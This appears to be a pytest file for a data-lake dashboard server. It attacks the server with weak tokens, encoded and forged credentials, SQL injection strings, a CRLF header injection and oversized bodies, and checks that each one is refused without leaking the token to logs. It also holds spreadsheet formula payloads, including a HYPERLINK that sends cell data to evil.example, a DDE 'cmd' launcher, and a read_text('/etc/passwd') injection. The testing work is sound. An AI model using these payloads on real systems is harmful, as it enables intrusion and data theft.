"""Attacks on the dashboard, each refused or made inert, against a real uvicorn over a real lake.

Classes: weak tokens and token files, token encodings (and what reaches the logs), header and
cookie forgeries, parameter injections (viewer values and placeholder placement in dashboard
files), out-of-range numbers, oversized and chunked bodies, spreadsheet formulas in CSV exports.
Every refusal is checked for its status and a one-line JSON error; every case that sends the
token checks that no captured log line holds it, however encoded.
"""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import logging
import os
import socket
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import quote, unquote_plus

import httpx
import pytest
from pydantic import SecretStr

from eventlake.config import Settings, load_settings
from eventlake.dashboard.auth import configured_token
from eventlake.dashboard.exceptions import MAKE_TOKEN, DashboardSpecError, InsecureBind, TokenFileError, WeakToken
from eventlake.dashboard.params import sql_literal
from eventlake.dashboard.server import build_server, check_bind
from eventlake.dashboard.specs import parse_dashboard
from eventlake.runtime import free_port
from tests.fixtures_dashboard import TickLake, ticks

TOKEN = "Qm7vX2cR9tLw4ZpN8yKd1HbJs5GfUe3A6oWiT0nYh_E"
OTHER = "Ht3kP9sVw1QxM7rZc5LdN2yBf8GjUa4E6oXiK0mRq-T"
AUTH = {"Authorization": f"Bearer {TOKEN}"}
MAX_BODY = 4096
# Formulas as they arrive from Kafka: the symbols of landed ticks.
FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\uff1d1+1",
    "=cmd|' /C calc'!A0",
)

ATTACK_DASHBOARD = """
title = "Attack surface"
[[parameters]]
name = "q"
default = ""
[[parameters]]
name = "sym"
default = "AAPL"
choices = ["AAPL", "MSFT"]
[[parameters]]
name = "n"
type = "int"
default = 1
[[parameters]]
name = "f"
type = "float"
default = 0.5
[[panels]]
id = "echo"
title = "Echo"
sql = "SELECT {q} AS q, length({q}) AS len"
[[panels]]
id = "pick"
title = "Pick"
sql = "SELECT count(*) AS n FROM stock_ticks WHERE symbol = {sym}"
[[panels]]
id = "num"
title = "Numbers"
sql = "SELECT {n} AS n, {f} AS f"
"""

# Panel SQL whose placeholder cannot be bound as a value: refused when the file loads.
MISPLACED = [
    "SELECT '{q}'",
    "SELECT E'{q}'",
    "SELECT e'\\'{q}'",
    "SELECT U&'{q}'",
    'SELECT "{q}"',
    'SELECT U&"{q}"',
    "SELECT 1 -- {q}",
    "SELECT /* {q} */ 1",
    "SELECT /* /* {q} */ */ 1",
    "SELECT $$ {q} $$",
    "SELECT $t$ {q} $t$",
    "SELECT x{q}",
    "SELECT {q}x",
    "SELECT {q}{q}",
    "SELECT $q",
    "SELECT ?",
    "SELECT $1",
    "SELECT 'a' || '{window_start}'",
]


# --- fixtures: one lake, one server, its logs ------------------------------------------------------
@dataclass
class Served:
    url: str
    lake: TickLake
    lines: list[str] = field(default_factory=list)

    def get(self, target: str, headers: dict[str, str] | list[tuple[str, str]] | None = None) -> httpx.Response:
        """GET a raw target (path and query exactly as given: no re-encoding by the client)."""
        url = httpx.URL(self.url, raw_path=target.encode("ascii"))
        with httpx.Client(timeout=20) as http:
            return http.send(http.build_request("GET", url, headers=headers))

    def log_text(self) -> str:
        return "\n".join(self.lines)


class _Capture(logging.Handler):
    """What reaches a handler of uvicorn's or eventlake's loggers, formatted as uvicorn prints it."""

    def __init__(self, lines: list[str]) -> None:
        super().__init__(logging.DEBUG)
        self.lines = lines

    def emit(self, record: logging.LogRecord) -> None:
        self.lines.append(logging.Formatter("%(name)s %(message)s").format(record))


@contextmanager
def _serve(settings: Settings) -> Iterator[str]:
    settings = settings.model_copy(
        update={"dashboard": settings.dashboard.model_copy(update={"host": "127.0.0.1", "port": free_port()})}
    )
    server = build_server(settings, access_log=True)
    thread = threading.Thread(target=server.run, name="dashboard-attacks", daemon=True)
    thread.start()
    deadline = time.monotonic() + 20
    while not server.started:
        assert thread.is_alive() and time.monotonic() < deadline, "the dashboard server did not start"
        time.sleep(0.02)
    try:
        yield f"http://127.0.0.1:{settings.dashboard.port}"
    finally:
        server.should_exit = True
        thread.join(15)


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    base = tmp_path_factory.mktemp("dashboard-attacks")
    dash = base / "dash"
    dash.mkdir()
    (dash / "attack.toml").write_text(ATTACK_DASHBOARD)
    settings = load_settings(
        overrides={
            "lake": str(base / "lake"),
            "dashboard": {"dashboards_dir": str(dash), "token": TOKEN, "max_request_bytes": MAX_BODY},
        }
    )
    lake = TickLake(base / "lake", settings)
    lake.land(ticks(30))
    lake.land(ticks(len(FORMULAS), symbols=FORMULAS), partition=1)
    with _serve(settings) as url:
        out = Served(url, lake)
        capture = _Capture(out.lines)
        watched = [logging.getLogger(n) for n in ("uvicorn", "uvicorn.access", "eventlake")]
        for logger in watched:
            logger.addHandler(capture)
        try:
            yield out
        finally:
            for logger in watched:
                logger.removeHandler(capture)


assert "e" in TOKEN and "a" not in TOKEN  # the homoglyph case below replaces an "e"


def _refused(response: httpx.Response, status: int, fragment: str = "") -> str:
    assert response.status_code == status, (response.status_code, response.text)
    assert response.headers["content-type"].startswith("application/json")
    message = response.json()["error"]
    assert isinstance(message, str) and message and "\n" not in message and "Traceback" not in message
    assert fragment.lower() in message.lower(), message
    return message


def _no_secret_in_logs(served: Served, *sent: str) -> None:
    """Neither the token nor what was sent, nor any percent-decoding of the log, holds it."""
    text = served.log_text()
    assert text, "nothing was logged: the check would prove nothing"
    decoded = {text}
    for _ in range(3):
        decoded.add(unquote_plus(list(decoded)[-1]))
    for form in decoded:
        assert TOKEN not in form and TOKEN.lower() not in form.lower()
    for piece in sent:
        assert piece not in text


def _pct(text: str, lower: bool = False) -> str:
    out = "".join(f"%{b:02X}" for b in text.encode())
    return out.lower() if lower else out


# --- 1. weak tokens and token files -----------------------------------------------------------------
@pytest.mark.parametrize(
    ("token", "error"),
    [
        (" ", WeakToken),
        ("\t \n", WeakToken),
        ("", InsecureBind),
        ("s3cret-t0ken", WeakToken),
        ("x" * 64, WeakToken),
        ("ab" * 32, WeakToken),
        ("0123456789" * 4, WeakToken),
        ("Password1!" * 5, WeakToken),
        ("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKL", WeakToken),
        ("a" * 40 + "Zq9!", WeakToken),
        ("1234567890" * 3 + "qwertyuiop", WeakToken),
        (TOKEN[:31], WeakToken),
        (TOKEN[:20] + " " + TOKEN[20:], WeakToken),
        ("\u00fc" * 8 + TOKEN, WeakToken),
        (TOKEN + "\x00", WeakToken),
        ("abcd" * 8 + "efgh" * 8, WeakToken),
        ("0000000000000000000000000000000000000000000000000000000000000001", WeakToken),
        ("x" * 2000, WeakToken),
    ],
    ids=lambda v: repr(v)[:24] if isinstance(v, str) else v.__name__,
)
def test_a_weak_token_is_refused_in_one_line(token: str, error: type[Exception]) -> None:
    settings = load_settings(overrides={"dashboard": {"host": "0.0.0.0", "token": token}})
    with pytest.raises(error) as err:
        check_bind(settings)
    line = str(err.value)
    assert "\n" not in line
    if error is WeakToken:
        assert MAKE_TOKEN in line
        assert len(token.strip()) < 8 or token.strip() not in line


@pytest.mark.parametrize("good", [TOKEN, f"  {TOKEN}\n", OTHER, "3f9a2c7e1b8d4a6f0e5c9b2a7d1f8e3c", "A" + TOKEN[1:]])
def test_a_strong_token_is_accepted_and_stripped(good: str) -> None:
    settings = load_settings(overrides={"dashboard": {"host": "0.0.0.0", "token": good}})
    check_bind(settings)
    assert configured_token(settings.dashboard) == good.strip()


@pytest.mark.parametrize("mode", [0o644, 0o640, 0o604, 0o660, 0o666, 0o700, 0o610, 0o601, 0o620, 0o602])
def test_a_token_file_others_may_read_is_refused(tmp_path: Path, mode: int) -> None:
    path = tmp_path / "token"
    path.write_text(TOKEN)
    path.chmod(mode)
    settings = load_settings(overrides={"dashboard": {"host": "0.0.0.0", "token_file": str(path)}})
    with pytest.raises(TokenFileError) as err:
        check_bind(settings)
    assert str(err.value) == f"the token file {path} has mode {mode:04o}, looser than 0600 (chmod 600 {path})"


@pytest.mark.parametrize("kind", ["missing", "empty", "folder", "fifo", "weak", "binary"])
def test_a_bad_token_file_is_refused(tmp_path: Path, kind: str) -> None:
    path = tmp_path / "token"
    if kind == "empty":
        path.write_text("\n")
    elif kind == "folder":
        path.mkdir(mode=0o700)
    elif kind == "fifo":
        os.mkfifo(path, 0o600)
    elif kind == "weak":
        path.write_text("changeme\n")
    elif kind == "binary":
        path.write_bytes(b"\xff\xfe" + TOKEN.encode())
    if path.exists():
        path.chmod(0o700 if kind == "folder" else 0o600)
    settings = load_settings(overrides={"dashboard": {"host": "0.0.0.0", "token_file": str(path)}})
    with pytest.raises(WeakToken if kind == "weak" else TokenFileError) as err:
        check_bind(settings)
    assert "\n" not in str(err.value) and (kind == "weak" or str(path) in str(err.value))


@pytest.mark.parametrize("mode", [0o600, 0o400])
def test_a_private_token_file_is_accepted(tmp_path: Path, mode: int) -> None:
    path = tmp_path / "token"
    path.write_text(TOKEN + "\n")
    path.chmod(mode)
    settings = load_settings(overrides={"dashboard": {"host": "0.0.0.0", "token_file": str(path)}})
    check_bind(settings)
    assert configured_token(settings.dashboard) == TOKEN


# --- 2. token encodings: the key matches after one decoding; nothing reaches a log ------------------
@pytest.mark.parametrize(
    ("query", "status"),
    [
        (f"token={TOKEN}", 303),
        (f"%74oken={TOKEN}", 303),
        (f"to%6Ben={TOKEN}", 303),
        (f"%74%6F%6B%65%6E={TOKEN}", 303),
        (f"%74%6f%6b%65%6e={TOKEN}", 303),
        (f"token={_pct(TOKEN)}", 303),
        (f"token={_pct(TOKEN, lower=True)}", 303),
        (f"token={_pct(TOKEN[:1])}{TOKEN[1:]}", 303),
        (f"x=1&token={TOKEN}&y=2", 303),
        (f"token={TOKEN}+", 303),  # '+' is a space, stripped like any surrounding whitespace
        (f"TOKEN={TOKEN}", 401),
        (f"%54%4F%4B%45%4E={TOKEN}", 401),
        (f"%2574oken={TOKEN}", 401),  # decoded once: the key is '%74oken', not 'token'
        (f"token={quote(_pct(TOKEN))}", 401),  # decoded once: still percent-encoded
        (f"token={TOKEN}&token={TOKEN}", 401),  # two tokens are ambiguous
        (f"token={TOKEN}&%74oken={OTHER}", 401),
        (f"x={TOKEN}", 401),
        (f"token%3D{TOKEN}", 401),
        (f"token={TOKEN[:-1]}", 401),
        (f"token={TOKEN.replace('e', '%D0%B5', 1)}", 401),  # a Cyrillic homoglyph of 'e'
        (f"x={_pct(TOKEN)}", 401),
    ],
    ids=lambda v: str(v)[:28],
)
def test_token_encodings_authenticate_only_canonically_and_never_log(served: Served, query: str, status: int) -> None:
    served.lines.clear()
    response = served.get(f"/pipeline?{query}")
    assert response.status_code == status, response.text
    if status == 303:
        assert TOKEN not in response.headers["location"] and response.headers["location"].startswith("/pipeline")
        assert (
            served.get("/api/health", headers={"Cookie": response.headers["set-cookie"].split(";")[0]}).status_code
            == 200
        )
    else:
        _refused(response, 401, "access token")
    assert any("/pipeline?" in line for line in served.lines), served.lines  # the access log line is there
    _no_secret_in_logs(served, query.split("=", 1)[-1])


@pytest.mark.parametrize(
    "path", [f"/api/{TOKEN}", f"/api/{_pct(TOKEN)}", f"/{TOKEN}/x?y={TOKEN}", f"/static/{quote(_pct(TOKEN))}"]
)
def test_a_token_in_the_path_is_not_logged(served: Served, path: str) -> None:
    served.lines.clear()
    _refused(served.get(path), 401)
    _no_secret_in_logs(served)


def test_an_app_log_line_never_holds_the_token(served: Served) -> None:
    served.lines.clear()
    log = logging.getLogger("eventlake.dashboard.app")
    log.warning("GET %s", f"/x?%74oken={_pct(TOKEN)}")
    log.warning(f"raw {TOKEN} and cookie {hashlib.sha256(b'eventlake-dashboard:' + TOKEN.encode()).hexdigest()}")
    try:
        raise RuntimeError(f"failed for /p?to%6Ben={TOKEN}")
    except RuntimeError:
        log.exception("request failed")
    assert len(served.lines) == 3
    _no_secret_in_logs(served, hashlib.sha256(b"eventlake-dashboard:" + TOKEN.encode()).hexdigest())


# --- 3. header and cookie forgeries ------------------------------------------------------------------
_COOKIE = hashlib.sha256(b"eventlake-dashboard:" + TOKEN.encode()).hexdigest()
_OTHER_COOKIE = hashlib.sha256(b"eventlake-dashboard:" + OTHER.encode()).hexdigest()


@pytest.mark.parametrize(
    "headers",
    [
        [],
        [("Authorization", "Bearer wrong")],
        [("Authorization", f"Basic {base64.b64encode(f'admin:{TOKEN}'.encode()).decode()}")],
        [("Authorization", f"Bearer {TOKEN[:-1]}")],
        [("Authorization", f"Bearer {TOKEN}x")],
        [("Authorization", f"Token {TOKEN}")],
        [("Authorization", TOKEN)],
        [("Authorization", f"Bearer {TOKEN.lower()}")],
        [("Authorization", f"Bearer {OTHER}")],
        [("Authorization", f"Bearer {TOKEN}"), ("Authorization", "Bearer wrong")],
        [("Authorization", "Bearer wrong"), ("Authorization", f"Bearer {TOKEN}")],
        [("Cookie", f"eventlake_token={TOKEN}")],
        [("Cookie", f"eventlake_token={_OTHER_COOKIE}")],
        [("Cookie", f"eventlake_token={_COOKIE.upper()}")],
        [("Cookie", f"Eventlake_Token={_COOKIE}")],
        [("Cookie", f"eventlake_token={_COOKIE[:-1]}")],
        [("Cookie", f'eventlake_token="{_COOKIE}x"')],
        [("X-Forwarded-For", "127.0.0.1"), ("X-Real-IP", "127.0.0.1"), ("Forwarded", "for=127.0.0.1")],
        [("Host", "localhost"), ("Origin", "http://localhost")],
        [("X-Eventlake-Token", TOKEN), ("Token", TOKEN)],
    ],
    ids=lambda h: "+".join(f"{k}:{v[:14]}" for k, v in h) or "nothing",
)
def test_forged_headers_and_cookies_are_refused(served: Served, headers: list[tuple[str, str]]) -> None:
    served.lines.clear()
    response = served.get("/api/health", headers=headers)
    _refused(response, 401, "access token")
    assert response.headers["www-authenticate"] == "Bearer"
    _no_secret_in_logs(served)


@pytest.mark.parametrize(
    "headers",
    [
        AUTH,
        {"Authorization": f"bearer   {TOKEN}"},
        {"Cookie": f"eventlake_token={_COOKIE}"},
        {"Cookie": f"a=1; eventlake_token={_COOKIE}; b=2"},
    ],
)
def test_the_real_credentials_are_accepted(served: Served, headers: dict[str, str]) -> None:
    assert served.get("/api/health", headers=headers).json()["status"] == "ok"


# --- 4. parameter injections ----------------------------------------------------------------------------
@pytest.mark.parametrize(
    "payload",
    [
        "x' OR '1'='1",
        "'); DROP TABLE stock_ticks; --",
        "E'\\x27 OR 1=1 --",
        "\\' OR 1=1 --",
        "$$ || version() || $$",
        "$t$ || current_setting('threads') || $t$",
        '" OR "a"="a',
        "*/ SELECT 1 /*",
        "-- ",
        "/*",
        "' UNION SELECT path FROM eventlake.files --",
        "\u02bc OR 1=1 --",
        "\uff07 OR 1=1 --",
        "\u202e'; --",
        "{q}",
        "$q",
        "?",
        "$1",
        "%27 OR 1=1",
        "x\r\nSet-Cookie: a=b",
        "\U0001f600'",
        "' || read_text('/etc/passwd') || '",
    ],
    ids=lambda v: repr(v)[:20],
)
def test_a_free_text_value_comes_back_as_one_value(served: Served, payload: str) -> None:
    response = served.get(f"/api/panels/attack/echo?q={quote(payload, safe='')}", headers=AUTH)
    assert response.status_code == 200, response.text
    body = response.json()
    assert body["error"] is None and body["rows"] == [[payload, len(payload)]]


@pytest.mark.parametrize(
    ("query", "fragment"),
    [
        ("sym=AAPL%27%20OR%20%271%27%3D%271", "must be one of"),
        ("sym=aapl", "must be one of"),
        ("sym=AAPL%20", "must be one of"),
        ("sym=%EF%BC%A1%EF%BC%A1%EF%BC%B0%EF%BC%AC", "must be one of"),  # full-width AAPL
        ("sym=AAPL%E2%80%8B", "must be one of"),  # zero-width space
        ("sym=AAPL%00", "NUL"),
        ("q=a%00b", "NUL"),
        ("q=" + "x" * 4097, "longer than 4096"),
        ("q=a&q=b", "given more than once"),
        ("q=a&%71=b", "given more than once"),
        ("q=%FF", "UTF-8"),
        ("q=%C0%A7", "UTF-8"),  # overlong encoding of '
        ("nope=1", "has no parameter"),
        ("Q=1", "has no parameter"),
        ("&".join(f"q{i}=1" for i in range(70)), "more than 64 fields"),
    ],
    ids=lambda v: v[:24],
)
def test_bad_parameter_values_are_refused(served: Served, query: str, fragment: str) -> None:
    for path in ("/api/panels/attack/echo", "/api/stream/attack"):
        _refused(served.get(f"{path}?{query}", headers=AUTH), 400, fragment)


def test_bounds_are_inclusive_and_keys_canonical(served: Served) -> None:
    assert served.get("/api/panels/attack/echo?%71=" + "x" * 4096, headers=AUTH).json()["rows"] == [["x" * 4096, 4096]]
    assert served.get("/api/panels/attack/pick?sym=MSFT", headers=AUTH).json()["rows"] == [[10]]


@pytest.mark.parametrize(
    ("query", "fragment"),
    [
        (f"n={10**30}", "signed 64-bit"),
        (f"n={-(2**63) - 1}", "signed 64-bit"),
        (f"n={2**63}", "signed 64-bit"),
        ("n=" + "9" * 25, "signed 64-bit"),
        ("n=1_000", "must be int"),
        ("n=%D9%A1%D9%A2", "must be int"),
        ("n=%205", "must be int"),
        ("n=0x10", "must be int"),
        ("n=1e3", "must be int"),
        ("n=5.0", "must be int"),
        ("n=", "must be int"),
        ("n=%2B", "must be int"),
        ("n=1%00", "must be int"),
        ("f=nan", "must be float"),
        ("f=inf", "must be float"),
        ("f=-inf", "must be float"),
        ("f=Infinity", "must be float"),
        ("f=1e400", "finite"),
        ("f=-1e5000", "finite float"),
        ("f=1_0", "must be float"),
        ("f=0x1p3", "must be float"),
        ("f=", "must be float"),
        ("f=%EF%BC%91", "must be float"),
        ("f=" + "1" * 70, "must be float"),
    ],
    ids=lambda v: v[:20],
)
def test_out_of_range_numbers_are_400_not_500(served: Served, query: str, fragment: str) -> None:
    _refused(served.get(f"/api/panels/attack/num?{query}", headers=AUTH), 400, fragment)


@pytest.mark.parametrize(
    ("query", "row"),
    [
        (f"n={2**63 - 1}&f=-1.5", [2**63 - 1, -1.5]),
        (f"n={-(2**63)}&f=1e308", [-(2**63), 1e308]),
        ("n=%2B7&f=.5", [7, 0.5]),
    ],
)
def test_numbers_at_the_bounds_are_accepted(served: Served, query: str, row: list[Any]) -> None:
    assert served.get(f"/api/panels/attack/num?{query}", headers=AUTH).json()["rows"] == [row]


@pytest.mark.parametrize("index", range(len(MISPLACED)), ids=lambda i: MISPLACED[i][:24])
def test_a_placeholder_that_is_not_a_whole_value_is_refused_at_load(served: Served, index: int) -> None:
    sql = MISPLACED[index]
    text = "title = 'bad'\n[[parameters]]\nname = 'q'\ndefault = ''\n[[panels]]\nid = 'p'\ntitle = 'p'\n"
    with pytest.raises(DashboardSpecError) as err:
        parse_dashboard("bad", text + f"sql = {_toml_string(sql)}\n", ".toml")
    assert "panel 'p'" in str(err.value) and "\n" not in str(err.value)
    # Served from the dashboards folder: a one-line 500 naming the panel, for the page and the data (the file
    # is the server's to fix, not the caller's).
    folder = Path(served.lake.settings.dashboard.dashboards_dir)
    (folder / f"bad-{index}.toml").write_text(text + f"sql = {_toml_string(sql)}\n")
    for path in (f"/api/dashboards/bad-{index}", f"/api/panels/bad-{index}/p", f"/api/stream/bad-{index}"):
        _refused(served.get(path, headers=AUTH), 500, "panel 'p'")


def _toml_string(text: str) -> str:
    """A TOML literal string when it can be one, else a basic string with escapes."""
    if "'" not in text:
        return f"'{text}'"
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"') + '"'


# --- 5. bodies: capped by Content-Length and while streaming -----------------------------------------
def _chunks(total: int, size: int) -> Iterator[bytes]:
    yield b'{"sql": "SELECT 1 -- '
    for _ in range(-(-total // size)):  # at least `total` bytes
        yield b"x" * size
    yield b'"}'


@pytest.mark.parametrize(
    ("path", "kind"),
    [
        ("/api/query", "declared"),
        ("/api/query.csv", "declared"),
        ("/api/query", "chunked"),
        ("/api/query", "small-chunks"),
        ("/api/query.csv", "chunked"),
        ("/api/panels/attack/echo", "declared"),
    ],
)
def test_an_oversized_body_is_413(served: Served, path: str, kind: str) -> None:
    with httpx.Client(base_url=served.url, timeout=20, headers=AUTH) as http:
        if kind == "declared":
            response = http.post(path, json={"sql": "SELECT 1 -- " + "x" * MAX_BODY})
        else:
            size = 1000 if kind == "chunked" else 64
            response = http.post(
                path, content=_chunks(MAX_BODY + 500, size), headers={"content-type": "application/json"}
            )
    _refused(response, 413, f"request body larger than {MAX_BODY} bytes")


def test_a_huge_declared_length_is_refused_before_any_body_arrives(served: Served) -> None:
    port = int(served.url.rsplit(":", 1)[1])
    with socket.create_connection(("127.0.0.1", port), timeout=5) as sock:
        sock.sendall(
            b"POST /api/query HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
            b"Authorization: Bearer " + TOKEN.encode() + b"\r\nContent-Length: 1000000000000\r\n\r\n"
        )
        answer = b""
        while b"}" not in answer:  # the JSON error ends the answer; no body was ever sent
            chunk = sock.recv(4096)
            assert chunk, answer
            answer += chunk
    head, _, body = answer.decode("latin-1").partition("\r\n\r\n")
    assert head.startswith("HTTP/1.1 413 ") and body.startswith('{"error":"request body larger than')


def test_a_body_under_the_cap_is_served_and_unauthenticated_bodies_are_never_read(served: Served) -> None:
    with httpx.Client(base_url=served.url, timeout=20) as http:
        ok = http.post("/api/query", json={"sql": "SELECT 1 AS one -- " + "x" * 3000}, headers=AUTH)
        assert ok.json()["rows"] == [[1]]
        _refused(http.post("/api/query", json={"sql": "SELECT 1 -- " + "x" * 10_000}), 401)


# --- 6. spreadsheet formulas in CSV exports ------------------------------------------------------------
def _csv(served: Served, sql: str) -> list[list[str]]:
    with httpx.Client(base_url=served.url, timeout=20, headers=AUTH) as http:
        response = http.post("/api/query.csv", json={"sql": sql})
    assert response.status_code == 200, response.text
    return list(csv.reader(io.StringIO(response.text, newline="")))


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        " =1",
        "  @x",
        "\uff1d1+1",
        "\uff0b1",
        "\uff0d1",
        "\uff20SUM(A1)",
        '=HYPERLINK("http://evil.example")',
        "-",
        "+",
        "=",
        "-1.5.5",
        "-1,5",
        "+-1",
        "-inf",
        "-0x10",
        "\t-1",
    ],
    ids=lambda v: repr(v)[:16],
)
def test_a_formula_cell_is_exported_as_text(served: Served, cell: str) -> None:
    assert _csv(served, f"SELECT {sql_literal(cell)} AS c") == [["c"], ["'" + cell]]


@pytest.mark.parametrize(
    ("expr", "shown"),
    [
        ("-5", "-5"),
        ("'-1.5'", "-1.5"),
        ("'+3'", "+3"),
        ("'1e-9'", "1e-9"),
        ("-0.25", "-0.25"),
        ("'-.5'", "-.5"),
        ("'AAPL'", "AAPL"),
        ("'a=b'", "a=b"),
        ("NULL", ""),
    ],
)
def test_numbers_and_plain_text_are_exported_unchanged(served: Served, expr: str, shown: str) -> None:
    assert _csv(served, f"SELECT {expr} AS c") == [["c"], [shown]]


def test_formulas_landed_from_kafka_are_neutralised(served: Served) -> None:
    rows = _csv(
        served,
        'SELECT symbol, -volume AS "=neg" FROM stock_ticks WHERE symbol NOT IN '
        "('AAPL', 'MSFT', 'NVDA') ORDER BY volume",
    )
    assert rows[0] == ["symbol", "'=neg"]
    assert rows[1:] == [["'" + f, str(-10 * (i + 1))] for i, f in enumerate(FORMULAS)]


def test_a_public_bind_with_a_good_token_still_refuses_weak_ones(tmp_path: Path) -> None:
    base = load_settings(overrides={"lake": str(tmp_path / "lake"), "dashboard": {"host": "0.0.0.0"}})
    strong = base.model_copy(update={"dashboard": base.dashboard.model_copy(update={"token": SecretStr(TOKEN)})})
    check_bind(strong)
    weak = base.model_copy(update={"dashboard": base.dashboard.model_copy(update={"token": SecretStr("a" * 64)})})
    with pytest.raises(WeakToken):
        build_server(weak)
